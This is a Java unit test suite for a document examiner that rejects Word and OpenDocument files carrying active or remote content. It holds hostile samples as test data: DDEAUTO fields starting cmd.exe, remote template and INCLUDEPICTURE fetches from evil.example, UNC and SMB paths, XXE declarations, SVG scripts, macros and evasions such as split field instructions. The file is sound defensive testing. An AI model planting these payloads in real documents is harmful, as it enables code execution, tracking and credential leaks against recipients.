package nl.zorgvuldig.platform.files;

import static java.nio.charset.StandardCharsets.UTF_16LE;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.InputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import nl.zorgvuldig.platform.files.examination.DocumentExaminer;
import nl.zorgvuldig.platform.policy.Clause;
import nl.zorgvuldig.platform.policy.Upholds;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/// Documents that run, fetch or hide something, in every way that Word and LibreOffice know; and
/// those that ordinary programs write.
@Upholds(Clause.CONFIDENTIALITY)
class ActiveDocumentsTest {
    private static final String WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.";
    private static final String STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships/";
    private static final String MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships/";

    @TempDir
    Path folder;

    @ParameterizedTest
    @ValueSource(strings = {"libreoffice.docx", "libreoffice.odt", "libreoffice.pdf"})
    void what_libreoffice_writes_with_notes_links_and_pictures_is_kept(String name) throws IOException {
        try (InputStream in = Objects.requireNonNull(getClass().getResourceAsStream("/files/" + name))) {
            assertThat(examined(in.readAllBytes())).startsWith("fit " + name.substring(12) + " 1\n");
        }
    }

    @Test
    void what_word_writes_with_all_that_belongs_to_it_is_kept() {
        Map<String, byte[]> parts = word();
        for (String part : List.of(
                "styles",
                "settings",
                "webSettings",
                "fontTable",
                "numbering",
                "footnotes",
                "endnotes",
                "comments",
                "commentsExtended",
                "commentsIds",
                "commentsExtensible",
                "people",
                "header",
                "footer")) {
            add(parts, "word/" + part + ".xml", WORD + part + "+xml", "<w:x xmlns:w=\"" + W + "\"/>");
        }
        String office = "application/vnd.openxmlformats-officedocument.";
        add(parts, "word/theme/theme1.xml", office + "theme+xml", "<a/>");
        add(parts, "docProps/app.xml", office + "extended-properties+xml", "<a/>");
        add(parts, "docProps/custom.xml", office + "custom-properties+xml", "<a/>");
        add(parts, "docProps/core.xml", "application/vnd.openxmlformats-package.core-properties+xml", "<a/>");
        add(parts, "customXml/item1.xml", "application/xml", "<control xmlns=\"urn:x\"/>");
        add(parts, "customXml/itemProps1.xml", office + "customXmlProperties+xml", "<a/>");
        add(parts, "word/media/image1.png", "image/png", "");
        parts.put("word/media/image1.png", SampleDocuments.picture("png", 9, 9));
        add(
                parts,
                "word/media/image2.svg",
                "image/svg+xml",
                "<svg xmlns=\"http://www.w3.org/2000/svg\"><path d=\"M0 0\"" + " fill=\"url(#a)\"/></svg>");
        add(parts, "word/fonts/font1.odttf", office + "obfuscatedFont", "\u0001\u0002\u0003");
        add(parts, "word/printerSettings1.bin", WORD + "printerSettings", "DEVMODE");
        parts.put(
                "word/_rels/document.xml.rels",
                relations(
                        SampleDocuments.RELATION + "styles>styles.xml",
                        SampleDocuments.RELATION + "image>media/image1.png",
                        SampleDocuments.RELATION + "customXml>../customXml/item1.xml",
                        MICROSOFT.replace("2006", "2011") + "commentsExtended>commentsExtended.xml",
                        MICROSOFT.replace("2006", "2018/08") + "commentsExtensible>x.xml",
                        SampleDocuments.RELATION + "hyperlink>https://www.school.nl/>External",
                        SampleDocuments.RELATION + "hyperlink>mailto:noor@school.nl>External",
                        SampleDocuments.RELATION + "hyperlink>#boven>External"));
        text(
                parts,
                field("TOC \\o &quot;1-3&quot; \\h \\z \\u")
                        + field("PAGEREF _Toc1 \\h")
                        + field("HYPERLINK &quot;https://www.school.nl&quot;")
                        + field("HYPERLINK \\l &quot;_Toc1&quot;")
                        + "<w:fldSimple w:instr=\" PAGE \"/>");

        assertThat(examined(parts)).startsWith("fit docx 1\n");
    }

    @Test
    void a_strict_document_of_word_is_kept_and_one_of_google_with_its_fonts_too() {
        Map<String, byte[]> strict = word();
        strict.put("_rels/.rels", relations(STRICT + "officeDocument>/word/document.xml"));
        assertThat(examined(strict)).startsWith("fit docx 1\n");

        Map<String, byte[]> google = word();
        add(google, "word/fonts/Roboto-regular.ttf", "application/x-font-ttf", "\0\u0001\0\0");
        google.put(
                "word/_rels/fontTable.xml.rels", relations(SampleDocuments.RELATION + "font>fonts/Roboto-regular.ttf"));
        add(google, "word/fontTable.xml", WORD + "fontTable+xml", "<w:fonts xmlns:w=\"" + W + "\"/>");
        assertThat(examined(google)).startsWith("fit docx 1\n");
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
                    attachedTemplate | https://evil.example/a.dotm | External | remote
                    image | file:///c:/geheim.png | External | remote
                    image | http://evil.example/volg.png | External | remote
                    image | \\\\evil.example\\deel\\a.png | Internal | remote
                    image | https://evil.example/a.png | | remote
                    image | //evil.example/a.png | | remote
                    oleObject | embeddings/oleObject1.bin | | attachment
                    oleObject | https://evil.example/a.doc | External | remote
                    package | embeddings/book.xlsx | Internal | attachment
                    aFChunk | chunk.htm | | attachment
                    subDocument | deel.docx | External | remote
                    frame | https://evil.example/ | External | remote
                    mailMergeSource | file:///c:/a.mdb | External | remote
                    control | activeX/activeX1.xml | | attachment
                    hyperlink | file:///c:/windows/calc.exe | External | remote
                    hyperlink | javascript:alert(1) | External | remote
                    hyperlink | \\\\evil.example\\deel | External | remote
                    hyperlink | smb://evil.example/deel | External | remote
                    image | http://evil.example/a.png | ' External ' | remote
                    image | http://evil.example/a.png | Extern | unreadable
                    image | ../../../etc/passwd | | remote
                    onbekend | a.xml | | remote
                    """)
    void a_document_of_word_is_refused_by_what_a_relationship_leads_to(
            String relation, String target, String mode, String reason) {
        for (String family : List.of(SampleDocuments.RELATION, STRICT)) {
            Map<String, byte[]> parts = word();
            parts.put(
                    "word/_rels/document.xml.rels",
                    relations(family + relation + ">" + target + (mode == null ? "" : ">" + mode)));
            assertThat(examined(parts)).as(family).isEqualTo("unfit " + reason + "\n");
        }
    }

    @Test
    void a_relationship_is_read_in_every_part_and_in_every_way_of_writing_it() {
        String evil = SampleDocuments.RELATION + "attachedTemplate>https://evil.example/a>External";
        Map<String, byte[]> settings = word();
        add(settings, "word/settings.xml", WORD + "settings+xml", "<w:s xmlns:w=\"" + W + "\"/>");
        settings.put("word/_rels/settings.xml.rels", relations(evil));
        assertThat(examined(settings)).isEqualTo("unfit remote\n");

        Map<String, byte[]> wide = word();
        wide.put(
                "word/_rels/document.xml.rels",
                ("\ufeff<?xml version=\"1.0\" encoding=\"UTF-16\"?>" + text(relations(evil))).getBytes(UTF_16LE));
        assertThat(examined(wide)).isEqualTo("unfit remote\n");

        Map<String, byte[]> macro = word();
        macro.put("word/_rels/document.xml.rels", relations(MICROSOFT + "vbaProject>x.bin"));
        assertThat(examined(macro)).isEqualTo("unfit macro\n");

        Map<String, byte[]> nested = word();
        nested.put("word/_rels/document.xml.rels", relations());
        nested.put("word/_rels/_rels/document.xml.rels.rels", relations(evil));
        assertThat(examined(nested)).startsWith("unfit ");

        Map<String, byte[]> elsewhere = word();
        add(
                elsewhere,
                "word/verhoudingen.xml",
                "application/vnd.openxmlformats-package.relationships+xml",
                text(relations(evil)));
        assertThat(examined(elsewhere)).isEqualTo("unfit unreadable\n");
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
                    word/objects/x.png | application/vnd.openxmlformats-officedocument.oleObject | attachment
                    word/x.xml | application/vnd.ms-office.vbaProject | macro
                    word/x.xml | application/vnd.ms-office.activeX+xml | attachment
                    word/x.bin | application/vnd.ms-office.vbaProject | macro
                    word/x.xml | application/vnd.ms-word.keyMapCustomizations+xml | macro
                    word/a.hta | text/html | attachment
                    word/a.hta | image/png | attachment
                    word/a.lnk | image/x-emf | attachment
                    word/a.exe | application/x-fontdata | attachment
                    word/a.xlsx | application/vnd.openxmlformats-officedocument.spreadsheetml.sheet | attachment
                    word/a.xml | application/vnd.ms-office.webextension+xml | attachment
                    """)
    void a_document_of_word_is_refused_by_what_a_part_is_whatever_it_is_called(
            String name, String type, String reason) {
        Map<String, byte[]> parts = word();
        add(parts, name, type, "MZ");
        assertThat(examined(parts)).isEqualTo("unfit " + reason + "\n");
    }

    @Test
    void a_part_of_which_nothing_is_said_or_two_things_is_refused() {
        Map<String, byte[]> unnamed = word();
        unnamed.put("word/a.hta", new byte[] {1});
        assertThat(examined(unnamed)).isEqualTo("unfit unreadable\n");

        Map<String, byte[]> twice = word();
        add(twice, "word/a.xml", "application/xml", "<a/>");
        add(twice, "word/A.xml", "application/vnd.ms-office.vbaProject", "<a/>");
        assertThat(examined(twice)).isEqualTo("unfit unreadable\n");

        Map<String, byte[]> cased = word();
        cased.put("WORD/document.xml", "<a/>".getBytes(UTF_8));
        assertThat(examined(cased)).isEqualTo("unfit unreadable\n");

        for (String name : List.of("word/./a.xml", "word\\a.xml", "/a.xml", "a//b.xml", "%2e/a.xml")) {
            Map<String, byte[]> strange = word();
            strange.put(name, "<a/>".getBytes(UTF_8));
            assertThat(examined(strange)).as(name).isEqualTo("unfit unreadable\n");
        }
    }

    @Test
    void what_an_archive_lists_at_its_end_is_what_stands_in_it() {
        byte[] shown = SampleDocuments.zip(word());
        byte[] hidden = SampleDocuments.zip(Map.of("word/hidden.xml", "<a/>".getBytes(UTF_8)));
        int listOfHidden = indexOf(hidden, new byte[] {'P', 'K', 1, 2});
        byte[] both = SampleDocuments.joined(Arrays.copyOf(hidden, listOfHidden), shown);

        assertThat(examined(shown)).startsWith("fit docx 1\n");
        assertThat(examined(both)).startsWith("unfit ");
    }

    private static int indexOf(byte[] in, byte[] what) {
        for (int at = 0; at < in.length; at++) {
            if (Arrays.mismatch(Arrays.copyOfRange(in, at, at + what.length), what) < 0) {
                return at;
            }
        }
        throw new IllegalStateException("not there");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;",
                "DDE cmd",
                " ddeauto cmd",
                "DDEAUTO&quot;cmd&quot;",
                "INCLUDETEXT &quot;https://evil.example/a&quot;",
                "INCLUDEPICTURE &quot;https://evil.example/a.png&quot; \\d",
                "LINK Word.Document.8 &quot;c:\\\\a.doc&quot;",
                "IMPORT c:\\\\a.png",
                "DATABASE \\c &quot;ODBC&quot;",
                "HYPERLINK &quot;file:///c:/windows/calc.exe&quot;",
                "HYPERLINK \\\\\\\\evil.example\\\\deel"
            })
    void a_field_that_fetches_or_starts_something_is_refused_however_it_is_cut(String instruction) {
        Map<String, byte[]> simple = word();
        text(simple, "<w:fldSimple w:instr=\"" + instruction + "\"/>");
        assertThat(examined(simple)).isEqualTo("unfit remote\n");

        Map<String, byte[]> whole = word();
        text(whole, field(instruction));
        assertThat(examined(whole)).isEqualTo("unfit remote\n");

        Map<String, byte[]> cut = word();
        text(
                cut,
                begin()
                        + run(instruction.substring(0, 2))
                        + run(instruction.substring(2, 4))
                        + run(instruction.substring(4))
                        + end());
        assertThat(examined(cut)).isEqualTo("unfit remote\n");

        Map<String, byte[]> nested = word();
        text(nested, begin() + run("IF ") + field("PAGE") + field(instruction) + end());
        assertThat(examined(nested)).isEqualTo("unfit remote\n");

        Map<String, byte[]> header = word();
        add(
                header,
                "word/header1.xml",
                WORD + "header+xml",
                "<w:hdr xmlns:w=\"http://purl.oclc.org/ooxml/wordprocessingml/main\">"
                        + field(instruction)
                        + "</w:hdr>");
        assertThat(examined(header)).isEqualTo("unfit remote\n");
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
                    <v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="file:///c:/a.png"/> | remote
                    <v:fill xmlns:v="urn:schemas-microsoft-com:vml" src="https://evil.example/a.png"/> | remote
                    <o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link"/> | attachment
                    <w:altChunk/> | remote
                    <w:mailMerge><w:connectString w:val="x"/></w:mailMerge> | remote
                    """)
    void what_a_document_of_word_says_in_its_text_is_judged_too(String element, String reason) {
        Map<String, byte[]> parts = word();
        text(parts, element);
        assertThat(examined(parts)).isEqualTo("unfit " + reason + "\n");
    }

    @Test
    void xml_that_declares_something_or_is_written_in_a_strange_way_is_refused() {
        for (String xml : List.of(
                "<!DOCTYPE a><a/>",
                "<!DOCTYPE a [<!ENTITY x \"y\">]><a>&x;</a>",
                "<!DOCTYPE a SYSTEM \"https://evil.example/a.dtd\"><a/>",
                "<?xml version=\"1.0\" encoding=\"Cp037\"?><a/>",
                "<?xml version=\"1.0\" encoding=\"UTF-7\"?><a/>",
                "<a>")) {
            Map<String, byte[]> parts = word();
            add(parts, "word/styles.xml", WORD + "styles+xml", xml);
            assertThat(examined(parts)).as(xml).isEqualTo("unfit unreadable\n");
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<image href=\"https://evil.example/a.png\"/>",
                "<image onload=\"alert(1)\"/>",
                "<style>@import url(https://evil.example/a.css);</style>",
                "<rect fill=\"url(https://evil.example/a)\"/>"
            })
    void a_drawing_in_a_document_that_does_something_is_refused(String inside) {
        Map<String, byte[]> parts = word();
        add(
                parts,
                "word/media/image1.svg",
                "image/svg+xml",
                "<svg xmlns=\"http://www.w3.org/2000/svg\">" + inside + "</svg>");
        assertThat(examined(parts)).startsWith("unfit ");
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
                    <o:scripts><script:event-listener script:event-name="dom:load"/></o:scripts> | macro
                    <o:scripts><o:script script:language="JavaScript">x</o:script></o:scripts> | macro
                    <o:scripts><o:script script:language="ooo:Basic"><library-embedded/></o:script></o:scripts> | macro
                    <draw:object xlink:href="./Object 1"/> | attachment
                    <draw:object-ole xlink:href="file:///c:/a.bin"/> | attachment
                    <draw:image xlink:href="https://evil.example/a.png"/> | remote
                    <draw:image xlink:href="file:///c:/a.png"/> | remote
                    <draw:image xlink:href="../buiten.png"/> | remote
                    <draw:fill-image xlink:href="//evil.example/a.png"/> | remote
                    <text:section-source xlink:href="https://evil.example/a.odt"/> | remote
                    <o:dde-source o:dde-application="cmd"/> | remote
                    <text:dde-connection-decl/> | remote
                    <text:a xlink:href="file:///c:/windows/calc.exe">x</text:a> | remote
                    <text:a xlink:href="vnd.sun.star.script:x?language=Basic">x</text:a> | macro
                    <text:a xlink:href="macro:///Standard.x()">x</text:a> | macro
                    <draw:plugin xlink:href="Media/a.mp4"/> | attachment
                    <o:image o:image-data="https://evil.example/a.png"/> | remote
                    <o:button o:target-location="file:///c:/windows/calc.exe"/> | remote
                    """)
    void an_open_document_is_refused_by_what_it_points_to_and_runs(String inside, String reason) {
        Map<String, byte[]> parts = open(inside, "content.xml");
        assertThat(examined(parts)).isEqualTo("unfit " + reason + "\n");

        Map<String, byte[]> styles = open("", "content.xml", "styles.xml");
        styles.put("styles.xml", content(inside));
        assertThat(examined(styles)).isEqualTo("unfit " + reason + "\n");
    }

    @ParameterizedTest
    @CsvSource({
        "Object 1/content.xml, attachment",
        "ObjectReplacements/Object 1, attachment",
        "Object 1, attachment",
        "Basic/Standard/x.xml, macro",
        "basic/x.xml, macro",
        "Scripts/python/x.py, macro",
        "Dialogs/x.xml, macro",
        "META-INF/macrosignatures.xml, macro",
        "Pictures/a.hta, attachment",
        "a.lnk, attachment"
    })
    void an_open_document_is_refused_by_what_lies_in_it(String name, String reason) {
        Map<String, byte[]> parts = open("", "content.xml", name);
        parts.put(name, "MZ".getBytes(UTF_8));
        assertThat(examined(parts)).isEqualTo("unfit " + reason + "\n");
    }

    @Test
    void an_open_document_lists_all_that_lies_in_it_and_hides_no_other_document() {
        Map<String, byte[]> unlisted = open("", "content.xml");
        unlisted.put("Pictures/a.png", SampleDocuments.picture("png", 9, 9));
        assertThat(examined(unlisted)).isEqualTo("unfit unreadable\n");

        Map<String, byte[]> other = open("");
        other.put(
                "META-INF/manifest.xml",
                SampleDocuments.manifest("application/vnd.oasis.opendocument.spreadsheet", "content.xml", "Deel/"));
        assertThat(examined(other)).isEqualTo("unfit attachment\n");

        Map<String, byte[]> template = open("", "content.xml", "meta.xml");
        template.put("meta.xml", content("<template xlink:href=\"../Sjablonen/Mijn%20brief.ott\"/>"));
        assertThat(examined(template)).startsWith("fit odt 1\n");
        template.put("meta.xml", content("<template xlink:href=\"file://evil/a.ott\"/>"));
        assertThat(examined(template)).isEqualTo("unfit remote\n");
    }

    private static final String W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";

    private static Map<String, byte[]> word() {
        return new LinkedHashMap<>(SampleDocuments.docxParts("Een brief."));
    }

    private static void add(Map<String, byte[]> parts, String name, String type, String content) {
        parts.put(name, content.getBytes(UTF_8));
        String types = text(Objects.requireNonNull(parts.get("[Content_Types].xml")));
        parts.put(
                "[Content_Types].xml",
                types.replace("</Types>", "<Override PartName=\"/" + name + "\" ContentType=\"" + type + "\"/></Types>")
                        .getBytes(UTF_8));
    }

    private static void text(Map<String, byte[]> parts, String inside) {
        parts.put(
                "word/document.xml",
                ("<w:document xmlns:w=\"" + W + "\"><w:body>" + inside + "</w:body></w:document>").getBytes(UTF_8));
    }

    private static String field(String instruction) {
        return begin() + run(instruction) + end();
    }

    private static String begin() {
        return "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>";
    }

    private static String run(String instruction) {
        return "<w:r><w:instrText xml:space=\"preserve\">" + instruction + "</w:instrText></w:r>";
    }

    private static String end() {
        return "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>1</w:t></w:r>"
                + "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>";
    }

    /// What Word leaves out, or reads otherwise than who looks for the name alone.
    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
                    <w:fldSimple x:instr="PAGE" w:instr="INCLUDEPICTURE &quot;https://evil.example/a&quot;"/> | unreadable
                    <w:fldSimple w:instr="PAGE" x:instr="PAGE"/> | unreadable
                    <w:r><w:fldChar x:fldCharType="begin"/></w:r> | unreadable
                    <x:fldChar x:fldCharType="begin"/> | unreadable
                    <w:r><w:instrText><x:instrText/>INCLUDEPICTURE a</w:instrText></w:r> | unreadable
                    <w:r><w:instrText>INCL</w:instrText><w:delInstrText>X</w:delInstrText><w:instrText>UDEPICTURE a</w:instrText></w:r> | remote
                    <w:r><w:instrText>INCL</w:instrText></w:r><w:del><w:r><w:fldChar w:fldCharType="begin"/></w:r></w:del><w:r><w:instrText>UDETEXT a</w:instrText></w:r> | remote
                    <v:imagedata o:href="media/a.png" r:href="https://evil.example/a.png"/> | remote
                    """)
    void what_another_reader_takes_for_a_field_is_judged_as_well(String inside, String reason) {
        Map<String, byte[]> parts = word();
        text(
                parts,
                "<w:p xmlns:x=\"urn:x-wordprocessingml\" xmlns:v=\"urn:schemas-microsoft-com:vml\""
                        + " xmlns:o=\"urn:schemas-microsoft-com:office:office\" xmlns:r=\"urn:r\">"
                        + inside
                        + "</w:p>");

        assertThat(examined(parts)).isEqualTo("unfit " + reason + "\n");
    }

    @Test
    void a_relationship_with_an_attribute_of_elsewhere_is_not_read() {
        Map<String, byte[]> parts = word();
        parts.put(
                "word/_rels/document.xml.rels",
                SampleDocuments.relationships("<Relationship xmlns:x=\"urn:x\" Id=\"r1\" Type=\""
                        + SampleDocuments.RELATION
                        + "image\" x:TargetMode=\"Internal\" TargetMode=\"External\""
                        + " x:Target=\"media/a.png\" Target=\"https://evil.example/a\"/>"));

        assertThat(examined(parts)).isEqualTo("unfit unreadable\n");
    }

    /// @param each type, target and, if any, mode
    private static byte[] relations(String... each) {
        StringBuilder all = new StringBuilder();
        for (int index = 0; index < each.length; index++) {
            String[] words = each[index].split(">", -1);
            all.append("<Relationship Id=\"r")
                    .append(index)
                    .append("\" Type=\"")
                    .append(words[0]);
            all.append("\" Target=\"").append(words[1]).append('"');
            all.append(words.length > 2 ? " TargetMode=\"" + words[2] + "\"/>" : "/>");
        }
        return SampleDocuments.relationships(all.toString());
    }

    private static Map<String, byte[]> open(String inside, String... listed) {
        Map<String, byte[]> parts = new LinkedHashMap<>(SampleDocuments.odtParts("Een brief."));
        parts.put("content.xml", content(inside));
        parts.put("META-INF/manifest.xml", SampleDocuments.manifest("text/xml", listed));
        return parts;
    }

    private static byte[] content(String inside) {
        return ("<o:c xmlns:o=\"urn:o\" xmlns:text=\"urn:t\" xmlns:draw=\"urn:d\""
                        + " xmlns:script=\"urn:s\""
                        + " xmlns:xlink=\"http://www.w3.org/1999/xlink\"><text:p>Een.</text:p>"
                        + inside
                        + "</o:c>")
                .getBytes(UTF_8);
    }

    private static String text(byte[] bytes) {
        return new String(bytes, UTF_8);
    }

    private String examined(Map<String, byte[]> parts) {
        return examined(SampleDocuments.zip(parts));
    }

    private String examined(byte[] content) {
        try {
            Path file = Files.write(Files.createTempFile(folder, "sent", ""), content);
            return DocumentExaminer.examined(file, 500);
        } catch (IOException failed) {
            throw new IllegalStateException(failed);
        }
    }
}
